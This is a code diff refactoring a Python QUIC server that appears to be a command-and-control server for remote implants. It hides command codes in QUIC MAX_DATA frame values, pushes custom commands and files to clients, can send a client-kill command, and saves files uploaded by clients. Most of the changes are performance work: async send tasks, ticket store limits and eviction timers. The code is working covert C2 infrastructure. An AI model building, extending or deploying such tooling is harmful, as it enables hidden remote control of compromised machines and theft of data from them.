@@ -2,10 +2,12 @@
 both responses and commands.  Other data is carried over HTTP/3, as needed.
 """
 import asyncio
+import atexit
+from collections import OrderedDict
+import logging
 import os
 import pathlib
-import time
-from typing import Dict, Optional
+from typing import Dict, List, Optional, Tuple, cast
 
 from aioquic.asyncio import QuicConnectionProtocol, serve
 from aioquic.quic.events import (QuicEvent, StreamDataReceived,
@@ -16,10 +18,25 @@ from aioquic.quic.logger import QuicFileLogger
 from aioquic.tls import SessionTicket
 
 from c2_dealer import QuiC2Database
-from server.server_comms import respond_to_sdr, bls
+from server.server_comms import (bls, cancel_eviction, respond_to_sdr,
+                                 schedule_eviction)
 from tools.constants import (DEFAULT_MAX_DATA, Actions, MAX_VLIE_INT,
-                             DELIMITER, MAX_BYTES)
-from tools.shared_functionality import int_to_enum
+                             DELIMITER_BYTES)
+from tools.shared_functionality import (configure_logging,
+                                        install_fast_event_loop, int_to_enum)
+
+# Amount of a file to read and hand to aioquic at once when sending it to a
+# client (64 KiB).  aioquic splits the data into packets itself, so there is
+# no need to send it a packet's worth at a time.
+_FILE_WINDOW_BYTES = 1 << 16
+# Most session tickets to keep for TLS session resumption.
+MAX_TICKETS = 4096
+
+# File needed for storing QUIC secrets.  This can be linked to in Wireshark
+# for decrypting QUIC packets for troubleshooting.  Opened once and shared by
+# every QuicServer.
+SECRETS_LOG_FILE = open('secrets_log_file', 'a')
+atexit.register(SECRETS_LOG_FILE.close)
 
 
 class QuicServer():
@@ -30,23 +47,16 @@ class QuicServer():
     def __init__(self) -> None:
         # A QuicFileLogger is used for tracing events.
         quic_log = 'quic_file_logs'
-        try:
-            # Make this directory if it doesn't already exist.
-            os.mkdir(quic_log)
-        except FileExistsError:
-            pass
+        # Make this directory if it doesn't already exist.
+        pathlib.Path(quic_log).mkdir(exist_ok=True)
         quic_logger = QuicFileLogger(quic_log)
 
-        # File needed for storing QUIC secrets.  This can be linked to
-        # in Wireshark for decrypting QUIC packets for troubleshooting.
-        secrets_log_file = open('secrets_log_file', 'a')
-
         # A QuicConfiguration object is needed to pass to a QuicConnection.
         self.configuration = QuicConfiguration(
             alpn_protocols=H3_ALPN,  # HTTP/3.
             is_client=False,  # Is a server.
             quic_logger=quic_logger,
-            secrets_log_file=secrets_log_file)
+            secrets_log_file=SECRETS_LOG_FILE)
 
         # Load a certificate and a private key.  These strings are required
         # to be PathLike objects...
@@ -68,6 +78,13 @@ class QuicServerProtocol(QuicConnectionProtocol):
         self._quic._local_max_streams_bidi.value = MAX_VLIE_INT
         self._quic._remote_max_streams_bidi = MAX_VLIE_INT
 
+        # The task sending the commands for the current check-in, if any.
+        self._cmd_task: Optional[asyncio.Task] = None
+        # The task sending a file to the client, if any.
+        self._file_task: Optional[asyncio.Task] = None
+        # Files being uploaded by the client, by stream_id.
+        self._recv_fds: Dict[int, int] = {}
+
     def quic_event_received(self, event: QuicEvent) -> None:
         """Act on a QuicEvent that is received.
 
@@ -75,36 +92,63 @@ class QuicServerProtocol(QuicConnectionProtocol):
             event (QuicEvent): A QuicEvent instance.
         """
         if isinstance(event, StreamDataReceived):
+            # Bind these once; they are used throughout the branches below.
+            q = self._quic
+            local_max = q._local_max_data
+            remote_max = q._remote_max_data
+            stream_id = event.stream_id
+
             # Find the corresponding enum, if present.
-            info = int_to_enum(self._quic._remote_max_data)
+            info = int_to_enum(remote_max)
 
             # If the message is not valid, let the operator know.
             if info == Actions.NOT_A_VALID_INTEGER:
                 bls.warning('Received this erroneous value for MAX_DATA:'
-                            f'  {self._quic._remote_max_data}')
+                            '  %s', remote_max)
                 # Reset fields and sent a command to kill the client.
-                self._quic._remote_max_data = DEFAULT_MAX_DATA
-                self._quic._local_max_data.value = Actions.CLIENT_KILL.value
-                self._quic.send_stream_data(event.stream_id, b'')
+                q._remote_max_data = DEFAULT_MAX_DATA
+                local_max.value = Actions.CLIENT_KILL
+                q.send_stream_data(stream_id, b'')
                 return
 
             # If the client sends a file, this needs to be written to disk
             # as the frames come in (there will most likely be multiple).
             if info == Actions.CLIENT_FILE_SEND:
-                # TODO: need to get an actual name for the file
-                with open('temp', 'ab') as f:
-                    f.write(event.data)
+                # Open the file once for the whole upload rather than for
+                # every frame.
+                fd = self._recv_fds.get(stream_id)
+                if fd is None:
+                    # TODO: need to get an actual name for the file
+                    # 0o666 is what open() would use, less the umask.
+                    fd = os.open('temp_' + str(stream_id),
+                                 os.O_WRONLY | os.O_CREAT | os.O_APPEND,
+                                 0o666)
+                    self._recv_fds[stream_id] = fd
+                if event.data:
+                    os.write(fd, event.data)
+                # The client ends the stream once the whole file is sent.
+                if event.end_stream:
+                    os.close(self._recv_fds.pop(stream_id))
+                return
+
+            # The client ends its side of the stream once the check-in is
+            # over.  There is nothing to respond to in that frame.
+            if not event.data and event.end_stream:
                 return
 
             # Get a response from the server.
-            srvr_resp, items = respond_to_sdr(DB_CON, event.stream_id, info)
+            srvr_resp, items = respond_to_sdr(DB_CON, stream_id, info)
 
             # No need for a reply concerning certain messages.
             # Print output from client response.
             match srvr_resp:
                 case Actions.SERVER_SEES_RESPONSE:
-                    data = str(event.data.decode().strip())
-                    bls.info(f'{event.stream_id} response: {data}')
+                    # Responses to several custom commands arrive joined by
+                    # the delimiter.  Only decode them if they will be logged.
+                    if bls.isEnabledFor(logging.INFO):
+                        for response in event.data.split(DELIMITER_BYTES):
+                            data = response.decode().strip()
+                            bls.info('%s response: %s', stream_id, data)
                     return
 
                 case Actions.NO_RESPONSE_NEEDED:
@@ -113,101 +157,148 @@ class QuicServerProtocol(QuicConnectionProtocol):
                 case Actions.SERVER_FILE_SEND:
                     # Only one filename will ever be returned.
                     filename = items[0]
-                    bls.debug(f'Send file {filename}')
+                    bls.debug('Send file %s', filename)
 
-                    # Here is the info to send TO the client.
-                    self._quic._local_max_data.value = srvr_resp.value
-
-                    with open(filename, 'rb') as f:
-                        while True:  # do-while loop
-                            # Read MAX_BYTES to stuff into QUIC packet.
-                            file_data = f.read(MAX_BYTES)
-                            # break when all of the file is read.
-                            if not file_data:
-                                break
-                            self._quic.send_stream_data(event.stream_id,
-                                                        file_data)
+                    # Disk reads are done off of the event loop, so the file
+                    # is sent from a task.
+                    self._file_task = asyncio.create_task(
+                        self._send_file(stream_id, filename))
                     return
 
                 case Actions.SERVER_FILE_RECV:
                     # Only one filename will ever be returned.
                     filename = items[0]
-                    bls.debug(f'Receive file {filename}')
+                    bls.debug('Receive file %s', filename)
 
                     # Here is the info to send TO the client.
-                    self._quic._local_max_data.value = srvr_resp.value
-                    self._quic.send_stream_data(
-                        event.stream_id, (filename + DELIMITER).encode())
+                    local_max.value = srvr_resp
+                    q.send_stream_data(stream_id,
+                                       filename.encode() + DELIMITER_BYTES)
 
                     # Reset this in order to receive error code properly.
-                    self._quic._remote_max_data = DEFAULT_MAX_DATA
+                    q._remote_max_data = DEFAULT_MAX_DATA
                     return
 
                 case Actions.FILE_NOT_FOUND:
                     bls.warning('Requested file does not exist on client!')
 
                 case _:
-                    print(srvr_resp)
+                    print(srvr_resp.name)
 
             # Assuming you made it through all of the above wickets...
-            for cmd in items:
-                try:
-                    # If this is a stock command, send via MAX_DATA frame. Will
-                    # fail here if cmd is actually a string.
-                    int_cmd = int(cmd)  # <-- Fail here.
-                    send = int_to_enum(int_cmd)
-                    if send == Actions.NOT_A_VALID_INTEGER:
-                        raise TypeError
-                    bls.debug(f'Sending {send.name} to {event.stream_id}')
-                    # Here is the info to send TO the client.
-                    self._quic._local_max_data.value = send.value
-                    # Send the data to the client.
-                    self._quic.send_stream_data(event.stream_id, b'***')
-
-                except ValueError:
-                    str_cmd = str(cmd)  # Ensure proper type.
-                    bls.debug(f'Sending {cmd} to {event.stream_id}')
-                    # If a custom command, need to send server response
-                    # and command as bytes.
-                    self._quic._local_max_data.value = Actions.CUSTOM.value
-                    # Use delimiter because QUIC packet may combine
-                    # data frames and not distinguish between commands.
-                    self._quic.send_stream_data(
-                        event.stream_id, (str_cmd + DELIMITER).encode())
-
-                except TypeError:  # A numeric command that isn't defined.
-                    bls.debug(f'Not a valid Action: {send}', exc_info=True)
-
-                time.sleep(1)  # Wait a little bit.
+            if items:
+                # The commands are spaced out over time, so send them from a
+                # task rather than blocking the event loop (and every other
+                # client) while waiting.
+                self._cmd_task = asyncio.create_task(
+                    self._send_cmds(stream_id, items))
 
         elif isinstance(event, ConnectionTerminated):
+            # Nothing more can be sent on this connection.
+            for task in (self._cmd_task, self._file_task):
+                if task is not None:
+                    task.cancel()
+            # Close any uploads that were cut off.
+            for fd in self._recv_fds.values():
+                os.close(fd)
+            self._recv_fds.clear()
+
             # Leave the client alive unless specifically designated to be
             # terminated.  Will be cleaned up later if not designated.
             if event.reason_phrase == 'terminate':
-                bls.info(f'Connection to {event.error_code} terminated!')
+                bls.info('Connection to %s terminated!', event.error_code)
 
                 # Need to remove the stream_id from the list, indicating that a
-                # client has terminated their connection to the server.
-                current_clients, error = DB_CON.sel_all_alive()
-                if error:
-                    bls.warning('There was an error attempting to retrieve'
-                                ' alive clients.  Will attempt to delete'
-                                f' stream_id {event.error_code} below.')
+                # client has terminated their connection to the server.  The
+                # event.error_code has the stream_id of the client.
+                cancel_eviction(event.error_code)
+                if DB_CON.del_stream_id(event.error_code):
+                    bls.debug('stream_id %s deleted!', event.error_code)
+
+    async def _send_file(self, stream_id: int, filename: str) -> None:
+        """Send a file to a client.  The file is read in a worker thread so
+        that a slow disk doesn't hold up every other client.
 
-                # The event.error_code has the stream_id of the client.
-                if str(event.error_code) in current_clients:
-                    # Delete this stream_id from the database.
-                    if DB_CON.del_stream_id(event.error_code):
-                        bls.debug(f'stream_id {event.error_code} deleted!')
+        Args:
+            stream_id (int): The stream_id of the client.
+            filename (str): The file to send.
+        """
+        loop = asyncio.get_running_loop()
+        # One buffer is reused for every read.  aioquic has taken its own
+        # copy of a window by the time the next read fills the buffer.
+        buf = bytearray(_FILE_WINDOW_BYTES)
+        view = memoryview(buf)
+
+        try:
+            f = await loop.run_in_executor(None, open, filename, 'rb')
+        except OSError:
+            # The file may have been removed since it was queued.  The client
+            # is only told a file is coming once it has been opened, so
+            # ending the stream below just finishes the check-in.
+            bls.warning('Could not open %s to send to %s', filename,
+                        stream_id, exc_info=True)
+        else:
+            # Here is the info to send TO the client.
+            self._quic._local_max_data.value = Actions.SERVER_FILE_SEND
+            try:
+                while True:  # do-while loop
+                    # Read the next window of the file.
+                    n = await loop.run_in_executor(None, f.readinto, buf)
+                    # break when all of the file is read.
+                    if not n:
+                        break
+                    # Hand over the window itself (cast only for the bytes
+                    # annotation); it is appended to the stream buffer here.
+                    self._quic.send_stream_data(stream_id,
+                                                cast(bytes, view[:n]))
+            except OSError:
+                bls.warning('Could not read all of %s to send to %s',
+                            filename, stream_id, exc_info=True)
+            finally:
+                await loop.run_in_executor(None, f.close)
+
+        # End the stream so the client knows the file is done.
+        self._quic.send_stream_data(stream_id, b'', end_stream=True)
+        # Transmit once the whole file is queued, so aioquic can fill every
+        # datagram.  Whatever the congestion window holds back is sent as
+        # ACKs come in.
+        self.transmit()
+
+    async def _send_cmds(self, stream_id: int,
+                         items: List[Tuple[Actions, bytes]]) -> None:
+        """Send each command queued for a client, waiting a little bit between
+        them so that each MAX_DATA value reaches the client with its command.
+
+        Args:
+            stream_id (int): The stream_id of the client.
+            items (List[Tuple[Actions, bytes]]): The MAX_DATA value and data
+                to send for each command.
+        """
+        for action, payload in items:
+            bls.debug('Sending %s %r to %s', action.name, payload, stream_id)
+            # Here is the info to send TO the client.
+            self._quic._local_max_data.value = action
+            # Send the data to the client.
+            self._quic.send_stream_data(stream_id, payload)
+
+            # Outside of quic_event_received nothing transmits for us.
+            self.transmit()
+            await asyncio.sleep(1)  # Wait a little bit.
+
+        # End the stream so the client knows that every command for this
+        # check-in has been sent.
+        self._quic.send_stream_data(stream_id, b'', end_stream=True)
+        self.transmit()
 
 
 class SessionTicketStore:
     """This was taken from the example code for aioquic.  Simple in-memory
-    store for session tickets.
+    store for session tickets.  Holds at most MAX_TICKETS; the oldest are
+    dropped first.
     """
 
     def __init__(self) -> None:
-        self.tickets: Dict[bytes, SessionTicket] = {}
+        self.tickets: OrderedDict[bytes, SessionTicket] = OrderedDict()
 
     def add(self, ticket: SessionTicket) -> None:
         """Add a new session ticket.
@@ -217,6 +308,10 @@ class SessionTicketStore:
             session resumption, if needed.
         """
         self.tickets[ticket.ticket] = ticket
+        self.tickets.move_to_end(ticket.ticket)
+        # Don't let tickets that are never used pile up forever.
+        if len(self.tickets) > MAX_TICKETS:
+            self.tickets.popitem(last=False)
 
     def pop(self, label: bytes) -> Optional[SessionTicket]:
         """Pop a SessionTicket and return.
@@ -231,24 +326,27 @@ class SessionTicketStore:
         return self.tickets.pop(label, None)
 
 
-def db_ops(loop: asyncio.AbstractEventLoop) -> None:
-    """This function will perform database operations on a periodic basis.  It
-    restarts itself by calling this function after every iteration.
-
-    Args:
-        loop (asyncio.AbstractEventLoop): The loop defined in the body below.
+def db_startup() -> None:
+    """Tidy up the database when the server starts.  Clients that went stale
+    while the server was down are removed, and the rest are given eviction
+    timers in case they never check in again.
     """
     # Attempt to clean stagnant entries.
     removed, clean = DB_CON.clean_stagnant()
     if clean:
         for stream_id in removed:
-            bls.info(f'Removed stagnant stream_id: {stream_id}')
+            bls.info('Removed stagnant stream_id: %s', stream_id)
 
-    # Call the function to execute again.
-    loop.call_later(5, db_ops, loop)
+    alive, error = DB_CON.sel_all_alive()
+    if not error:
+        for stream_id in alive:
+            schedule_eviction(DB_CON, stream_id)
 
 
 if __name__ == '__main__':
+    # Only the server's own logger should print anything.
+    configure_logging()
+
     # Create a QuicServer object and initialize.
     quic_server = QuicServer()
     # Create a SessionTicketStore object and initialize.
@@ -259,9 +357,16 @@ if __name__ == '__main__':
     # Connection to the database
     DB_CON = QuiC2Database()
 
+    # Use uvloop / winloop if available; it cuts the per-datagram overhead
+    # of the event loop.
+    if install_fast_event_loop():
+        bls.debug('Using a libuv-based event loop')
+
     # Create a new event loop for asyncio.
     loop = asyncio.new_event_loop()
-    loop.set_debug(True)
+    # Debug mode adds overhead to every callback, so only use it when asked.
+    if os.getenv('QUIC2_DEBUG'):
+        loop.set_debug(True)
     # This is the aioquic.asyncio serve.  It will start the QuicServer.
     loop.run_until_complete(serve(
         host, port,
@@ -275,9 +380,9 @@ if __name__ == '__main__':
         # Now that everything has been set up correctly, continue to run until
         # stop is called.
         bls.info('QUIC Server is starting...')
-        # This is a persistent task that will perform database operations every
-        # 5 seconds.
-        loop.call_later(5, db_ops, loop)
+        # After this, each client is removed by its own timer once it stops
+        # checking in, rather than by polling the database.
+        loop.call_soon(db_startup)
         loop.run_forever()
 
     except KeyboardInterrupt: